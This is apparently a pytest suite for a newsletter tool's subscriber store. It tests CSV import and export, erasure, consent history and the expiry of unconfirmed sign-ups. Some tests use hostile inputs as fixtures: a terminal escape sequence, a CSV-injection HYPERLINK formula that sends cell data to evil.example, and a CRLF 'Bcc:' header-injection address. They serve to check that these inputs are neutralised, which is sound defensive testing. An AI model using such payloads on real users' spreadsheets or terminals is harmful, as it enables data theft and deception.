"""The subscriber store and its commands: import, add, rm, ls, export; send to the store."""

from __future__ import annotations

import csv
import io
import json
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from digest import db, subscribers
from digest.cli import cli

from .conftest import EXAMPLE, FIXTURES

LIST = str(FIXTURES / "readers.csv")


def run(runner: CliRunner, *args: str):
    return runner.invoke(cli, list(args))


def store(project: Path):
    return db.connect(project / ".digest" / "journal.sqlite3")


def test_import_refuses_a_list_with_bad_rows_and_says_where(project, runner) -> None:
    result = run(runner, "subscribers", "import", LIST)
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"Error: {LIST}:4: invalid address 'not-an-address': An email address must have an @-sign.",
        "  hint: fix the row, or pass --skip-invalid to import the others",
        f"Error: {LIST}:6: invalid address 'nobody@': There must be something after the @-sign.",
        "  hint: fix the row, or pass --skip-invalid to import the others",
        "2 problems found; nothing was written.",
    ]
    # Nothing was written: not even an empty store in a project that had none.
    assert not (project / ".digest" / "journal.sqlite3").exists()
    assert run(runner, "subscribers", "ls").output == ""


def test_import_skipping_bad_rows_then_never_reactivating(project, runner) -> None:
    result = run(runner, "subscribers", "import", "--skip-invalid", LIST)
    assert result.exit_code == 0, result.output
    assert result.stdout == (
        "3 added, 0 updated, 0 not added (unsubscribed, bounced, complained or erased), 2 invalid, "
        "1 duplicate(s)\n"
    )
    assert "readers.csv:4: invalid address 'not-an-address'" in result.stderr
    assert run(runner, "unsubscribe", "anna@example.com").exit_code == 0
    again = run(runner, "subscribers", "import", "--skip-invalid", LIST)
    assert again.stdout.startswith("0 added, 0 updated, 1 not added")
    listed = run(runner, "subscribers", "ls", "--status", "unsubscribed").stdout
    assert [line.split("\t")[:2] for line in listed.splitlines()] == [["anna@example.com", "unsubscribed"]]
    rows = json.loads(run(runner, "subscribers", "ls", "--json").stdout)
    assert [(r["email"], r["status"]) for r in rows] == [
        ("anna@example.com", "unsubscribed"),
        ("BORIS@example.com", "active"),
        ("dmitri@example.org", "active"),
    ]
    assert rows[1]["fields"] == {"name": "Борис Петров", "city": "Москва"}
    assert rows[1]["source"] == "import readers.csv"
    assert rows[1]["created"].endswith("Z")


def test_add_with_fields_and_its_errors(project, runner) -> None:
    result = run(
        runner, "subscribers", "add", "Eve@Example.net", "--field", "name=Eve Adams", "--field", "City=Oslo"
    )
    assert result.exit_code == 0 and result.stdout == "added Eve@example.net\n"
    eve = subscribers.get(store(project), "eve@example.net")
    assert (eve.status, dict(eve.fields), eve.source) == (
        "active",
        {"name": "Eve Adams", "city": "Oslo"},
        "cli: subscribers add",
    )
    assert run(runner, "subscribers", "add", "eve@example.net").stdout == (
        "eve@example.net is already in the store\n"
    )
    bad = run(runner, "subscribers", "add", "eve@example.net", "--field", "oops")
    assert bad.exit_code == 1 and bad.stderr == (
        "Error: --field 'oops' is not KEY=VALUE\n  hint: write it as --field name='Anna Schmidt'\n"
    )
    email = run(runner, "subscribers", "add", "eve@example.net", "--field", "email=x@example.org")
    assert email.exit_code == 1 and email.stderr.startswith(
        "Error: --field email=... cannot change the address: 'email' is the address itself\n"
    )
    invalid = run(runner, "subscribers", "add", "eve@example.net\r\nBcc: x@example.org")
    assert invalid.exit_code == 1 and invalid.stderr.startswith("Error: address ")


def test_rm_erases_and_export_writes_status_and_dates(project, runner, tmp_path) -> None:
    run(runner, "subscribers", "import", "--skip-invalid", LIST)
    assert run(runner, "subscribers", "rm", "dmitri@example.org").stdout == ("erased dmitri@example.org\n")
    conn = store(project)
    assert subscribers.get(conn, "dmitri@example.org") is None
    assert subscribers.is_suppressed(conn, "Dmitri@example.org")
    assert [e[0] for e in subscribers.events(conn, "dmitri@example.org")] == ["active", "erased"]
    assert conn.execute("SELECT count(*) FROM events WHERE email_key = 'dmitri@example.org'").fetchone()[0] == 0
    history = run(runner, "subscribers", "history", "Dmitri@example.org").stdout.splitlines()
    assert [line.split("\t")[1:] for line in history] == [
        ["active", "import readers.csv"],
        ["erased", "cli: subscribers rm"],
    ]
    unknown = run(runner, "subscribers", "history", "nobody@example.org")
    assert unknown.exit_code == 1 and unknown.stderr.startswith("Error: no record of nobody@")
    out = tmp_path / "backup.csv"
    assert run(runner, "subscribers", "export", str(out)).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert list(rows[0]) == ["email", "status", "created", "updated", "source", "city", "name"]
    assert [(r["email"], r["status"], r["name"]) for r in rows] == [
        ("anna@example.com", "active", "Anna Schmidt"),
        ("BORIS@example.com", "active", "Борис Петров"),
    ]
    assert run(runner, "subscribers", "export").stdout == out.read_text(encoding="utf-8")


def test_send_without_list_goes_to_the_active_subscribers(project, runner, tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("DIGEST_SECRET", "store-secret")
    empty = run(runner, "send", EXAMPLE, "--outbox", str(tmp_path / "none"))
    assert empty.exit_code == 1
    assert empty.stderr.startswith("Error: the subscriber store has no active subscriber\n")
    run(runner, "subscribers", "import", "--skip-invalid", LIST)
    run(runner, "unsubscribe", "boris@example.com")
    subscribers.add(store(project), "new@example.net", {"name": "New"}, "unconfirmed", "test")
    result = run(runner, "send", EXAMPLE, "--outbox", str(tmp_path / "out"))
    assert result.exit_code == 0, result.output
    assert "Recipients: 2 to send" in result.stdout
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == [
        "anna_at_example.com.eml",
        "dmitri_at_example.org.eml",
    ]


def test_the_store_functions_record_every_change_once(tmp_path: Path) -> None:
    conn = db.connect(tmp_path / "journal.sqlite3")
    assert subscribers.add(conn, "a@example.org", {"name": "A"}, "active", "test") == "added"
    assert subscribers.set_status(conn, "A@example.org", "unsubscribed", "web", "clicked")
    assert not subscribers.set_status(conn, "a@example.org", "unsubscribed", "web")
    assert subscribers.is_suppressed(conn, "a@example.org")
    assert list(subscribers.active_recipients(conn)) == []
    assert subscribers.add(conn, "a@example.org", {"name": "B"}, "active", "import") == "suppressed"
    assert subscribers.get(conn, "a@example.org").status == "unsubscribed"
    assert subscribers.reactivate(conn, "a@example.org", "web: confirmed link")
    assert not subscribers.is_suppressed(conn, "a@example.org")
    (recipient,) = subscribers.active_recipients(conn)
    assert (recipient.email, dict(recipient.fields)) == ("a@example.org", {"name": "A"})
    assert [e[:3] for e in subscribers.events(conn, "a@example.org")] == [
        ("active", "test", None),
        ("unsubscribed", "web", "clicked"),
        ("active", "web: confirmed link", "confirmed opt-in"),
    ]
    with pytest.raises(ValueError, match="unknown status"):
        subscribers.set_status(conn, "a@example.org", "gone", "test")


def test_every_command_has_help_with_an_example(runner) -> None:
    for args in (
        ["subscribers"],
        ["subscribers", "import"],
        ["subscribers", "add"],
        ["subscribers", "rm"],
        ["subscribers", "ls"],
        ["subscribers", "export"],
        ["subscribers", "history"],
        ["serve"],
    ):
        result = runner.invoke(cli, [*args, "--help"])
        assert result.exit_code == 0 and "Example" in result.output, args


def test_serve_needs_the_secret(project, runner) -> None:
    result = run(runner, "serve", "--port", "0")
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: .env: DIGEST_SECRET is not set; it signs and checks")


def test_serve_on_a_busy_port_is_one_clear_error(project, runner, monkeypatch) -> None:
    import socket

    monkeypatch.setenv("DIGEST_SECRET", "serve-secret")
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        result = run(runner, "serve", "--port", str(port))
    assert result.exit_code == 1
    assert result.stderr.startswith(f"Error: cannot listen on 127.0.0.1:{port}: ")
    assert "hint: choose another --port (0 takes any free one)" in result.stderr


def test_an_export_imports_back_as_it_was_and_duplicates_are_reported(project, runner, tmp_path) -> None:
    listing = tmp_path / "list.csv"
    listing.write_text(
        "email,name,city\n"
        "anna@example.com,Anna,Berlin\n"
        "boris@example.com,Boris,Moskva\n"
        "ANNA@example.com,Anna again,Berlin\n"
    )
    imported = run(runner, "subscribers", "import", str(listing))
    assert imported.exit_code == 0, imported.output
    assert imported.stderr == f"Warning: {listing}:4: the address of line 2 again (skipped)\n"
    assert imported.stdout.startswith("2 added, 0 updated") and "1 duplicate(s)" in imported.stdout
    assert run(runner, "unsubscribe", "boris@example.com").exit_code == 0
    backup = tmp_path / "backup.csv"
    assert run(runner, "subscribers", "export", str(backup)).exit_code == 0

    before = {s["email"]: s for s in json.loads(run(runner, "subscribers", "ls", "--json").stdout)}
    for file in (project / ".digest").glob("journal.sqlite3*"):
        file.unlink()  # a new machine: restore the backup
    time.sleep(1.1)  # the export's times are to the second
    restored = run(runner, "subscribers", "import", str(backup))
    assert restored.exit_code == 0, restored.output
    listed = json.loads(run(runner, "subscribers", "ls", "--json").stdout)
    by_address = {s["email"]: s for s in listed}
    for address, was in before.items():  # the consent record starts where it did, not at the restore
        keys = ("created", "updated", "source")
        assert [by_address[address][k] for k in keys] == [was[k] for k in keys]
    assert by_address["anna@example.com"]["status"] == "active"
    assert by_address["anna@example.com"]["fields"] == {"city": "Berlin", "name": "Anna"}
    assert by_address["boris@example.com"]["status"] == "unsubscribed"  # never re-activated
    assert by_address["boris@example.com"]["fields"] == {"city": "Moskva", "name": "Boris"}


def test_what_a_web_form_let_in_is_inert_in_ls_and_export(project, runner, tmp_path) -> None:
    """A name is what an anonymous reader typed: an escape sequence must not run in the
    editor's terminal, nor a formula in the spreadsheet that opens the export (OWASP CSV
    injection); an export still imports back exactly."""
    conn = db.connect(project / ".digest" / db.DB_NAME)
    name = "\x1b[2J\x1b]0;owned\x07Eve\tX\u202eevil"
    formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
    subscribers.add(conn, "eve@example.net", {"name": name, "note": formula}, "active", "web: test")
    subscribers.add(conn, "-dash@example.net", {"name": "+1 555", "note": "@home"}, "active", "test")
    quoted = {"name": "'-)", "note": "'=SUM(A1)", "@sum(1+1)": "''x"}  # a "'" of their own
    subscribers.add(conn, "quote@example.net", quoted, "active", "test")
    conn.close()
    listed = run(runner, "subscribers", "ls").stdout
    assert "\x1b" not in listed and "\u202e" not in listed and "\x07" not in listed
    eve = next(line for line in listed.splitlines() if line.startswith("eve@"))
    assert "name=\\x1b[2J\\x1b]0;owned\\x07Eve\\tX\\u202eevil" in eve and len(eve.split("\t")) == 4

    backup = tmp_path / "backup.csv"
    assert run(runner, "subscribers", "export", str(backup)).exit_code == 0
    cells = [cell for row in csv.reader(io.StringIO(backup.read_text())) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]  # header too
    assert f"'{formula}" in cells and "'-dash@example.net" in cells and "'@home" in cells

    (project / ".digest" / "journal.sqlite3").unlink()
    restored = run(runner, "subscribers", "import", str(backup))
    assert restored.exit_code == 0, restored.output
    listed = json.loads(run(runner, "subscribers", "ls", "--json").stdout)
    by_address = {s["email"]: s for s in listed}  # (a column only another reader has stays out)
    assert by_address["eve@example.net"]["fields"] == {"name": name, "note": formula}
    assert by_address["-dash@example.net"]["fields"] == {"name": "+1 555", "note": "@home"}
    assert by_address["quote@example.net"]["fields"] == quoted


def test_erasure_redacts_the_server_replies_that_quote_the_address(tmp_path: Path) -> None:
    conn = db.connect(tmp_path / "journal.sqlite3")
    subscribers.add(conn, "Bob@example.org", {"name": "Bob"}, "active", "test")
    conn.execute(
        "INSERT INTO deliveries (issue, email_key, email, fields, state, reply, updated_at) VALUES "
        "('2022-01-03', 'bob@example.org', 'Bob@example.org', '{}', 'failed', "
        "'550 5.1.1 <Bob@example.org>: Recipient address rejected', 0)"
    )
    assert subscribers.erase(conn, "bob@example.org")
    assert conn.execute("SELECT reply FROM deliveries").fetchall() == [("[erased]",)]
    assert "bob@" not in "\n".join(conn.iterdump()).lower()


def test_after_erasure_a_late_unsubscribe_or_bounce_is_kept_by_hash_only(tmp_path: Path) -> None:
    import datetime as dt

    from digest.bounces import events as bounce_events
    from digest.bounces.classify import Event

    path = tmp_path / "journal.sqlite3"
    conn = db.connect(path)
    subscribers.add(conn, "bob@example.org", {"name": "Bob"}, "active", "test")
    subscribers.erase(conn, "bob@example.org")
    # An old one-click link, then a late hard bounce quoting the address.
    assert subscribers.set_status(conn, "Bob@example.org", "unsubscribed", "web: one-click")
    assert not subscribers.set_status(conn, "bob@example.org", "unsubscribed", "web: one-click")
    reason = "hard bounce: 5.1.1 <bob@example.org>: no such user"
    assert subscribers.set_status(conn, "bob@example.org", "bounced", "bounce", reason)
    hard = Event("hard", "bob@example.org", "2022-01-03", "5.1.1", "<bob@example.org>: no such user")
    assert bounce_events.record(conn, "<late@mx>", [hard], "maildir", dt.date(2022, 1, 10)) == 1
    assert subscribers.get(conn, "bob@example.org") is None
    assert [e[:3] for e in subscribers.events(conn, "bob@example.org")] == [
        ("active", "test", None),
        ("erased", "cli", None),
        ("unsubscribed", "web: one-click", None),
        ("bounced", "bounce", "[erased]"),
    ]
    assert subscribers.is_suppressed(conn, "bob@example.org")
    assert conn.execute("SELECT reason FROM suppression").fetchall() == [("erased",)]
    conn.close()
    for file in tmp_path.iterdir():
        assert b"bob@" not in file.read_bytes().lower(), file
    # An address never erased is still created on a change (one-click from a --list send).
    conn = db.connect(path)
    assert subscribers.set_status(conn, "eve@example.org", "unsubscribed", "web: one-click")
    assert subscribers.get(conn, "eve@example.org").status == "unsubscribed"


def test_a_confirmation_gives_its_fields_only_to_a_new_or_unconfirmed_subscriber(tmp_path: Path) -> None:
    conn = db.connect(tmp_path / "journal.sqlite3")
    subscribers.add(conn, "a@example.org", {"name": "Anna", "city": "Oslo"}, "active", "test")
    subscribers.add(conn, "u@example.org", {"name": "Una"}, "active", "test")
    subscribers.set_status(conn, "u@example.org", "unsubscribed", "web")
    assert subscribers.add(conn, "n@example.org", None, "unconfirmed", "web: subscribe form") == "added"
    assert subscribers.add(conn, "a@example.org", None, "unconfirmed", "web: subscribe form") == "known"
    assert not subscribers.reactivate(conn, "a@example.org", "web: confirmed link", {"name": "Mallory"})
    assert subscribers.reactivate(conn, "u@example.org", "web: confirmed link", {"name": "Mallory"})
    assert subscribers.reactivate(conn, "n@example.org", "web: confirmed link", {"name": "Nils"})
    assert subscribers.reactivate(conn, "x@example.org", "web: confirmed link", {"name": "Xu"})
    assert {s.email: (s.status, dict(s.fields)) for s in subscribers.subscribers(conn)} == {
        "a@example.org": ("active", {"name": "Anna", "city": "Oslo"}),
        "n@example.org": ("active", {"name": "Nils"}),
        "u@example.org": ("active", {"name": "Una"}),
        "x@example.org": ("active", {"name": "Xu"}),
    }


def test_unconfirmed_subscribers_expire(tmp_path: Path) -> None:
    import time

    conn = db.connect(tmp_path / "journal.sqlite3")
    subscribers.add(conn, "old@example.org", None, "unconfirmed", "web: subscribe form")
    subscribers.add(conn, "new@example.org", None, "unconfirmed", "web: subscribe form")
    subscribers.add(conn, "kept@example.org", None, "active", "test")
    conn.execute(
        "UPDATE subscribers SET updated_at = 0 WHERE email_key IN ('old@example.org', 'kept@example.org')"
    )
    assert subscribers.purge_unconfirmed(conn, 7 * 86400, now=time.time()) == 1
    assert [s.email for s in subscribers.subscribers(conn)] == ["kept@example.org", "new@example.org"]
    assert [e[0] for e in subscribers.events(conn, "old@example.org")] == ["unconfirmed"]  # by hash
    assert "old@example.org" not in "\n".join(conn.iterdump())


def test_the_editor_s_add_or_import_activates_an_unconfirmed_address(project, runner) -> None:
    """Someone (the reader, or a stranger) typed the address into the subscribe form and never
    confirmed: the editor's own import must still put the reader on the list, not leave them
    unconfirmed and deleted with the unconfirmed a week later."""
    conn = store(project)
    subscribers.add(conn, "eve@example.org", None, "unconfirmed", "web: subscribe form")
    subscribers.add(conn, "ann@example.org", None, "unconfirmed", "web: subscribe form")
    csv = project / "list.csv"
    csv.write_text("email,name\neve@example.org,Eve Imported\n", encoding="utf-8")
    result = run(runner, "subscribers", "import", str(csv))
    assert result.exit_code == 0 and result.stdout.startswith("1 added, 0 updated"), result.output
    eve = subscribers.get(conn, "eve@example.org")
    assert (eve.status, dict(eve.fields)) == ("active", {"name": "Eve Imported"})
    assert run(runner, "subscribers", "add", "Ann@example.org").stdout == "added Ann@example.org\n"
    assert subscribers.get(conn, "ann@example.org").status == "active"
    assert [(e[0], e[1]) for e in subscribers.events(conn, "ann@example.org")] == [
        ("unconfirmed", "web: subscribe form"),
        ("active", "cli: subscribers add"),
    ]
    # Restoring an export keeps an unconfirmed reader unconfirmed; nobody suppressed comes back.
    subscribers.add(conn, "zed@example.org", None, "unconfirmed", "web: subscribe form")
    assert subscribers.add(conn, "zed@example.org", None, "unconfirmed", "import backup.csv") == "known"
    run(runner, "unsubscribe", "eve@example.org")
    assert subscribers.add(conn, "eve@example.org", None, "active", "cli") == "suppressed"


def test_a_backup_time_edited_without_its_zone_is_read_as_utc(project, runner, tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("TZ", "America/New_York")
    time.tzset()
    try:
        backup = tmp_path / "backup.csv"
        backup.write_text(
            "email,status,created,updated,source,name\n"
            "eve@example.org,active,2024-01-01T10:00:00,2024-01-02T10:00:00Z,web: confirmed link,Eve\n",
            encoding="utf-8",
        )
        assert run(runner, "subscribers", "import", str(backup)).exit_code == 0
        [eve] = json.loads(run(runner, "subscribers", "ls", "--json").stdout)
        assert (eve["created"], eve["updated"]) == ("2024-01-01T10:00:00Z", "2024-01-02T10:00:00Z")
    finally:
        monkeypatch.delenv("TZ")
        time.tzset()
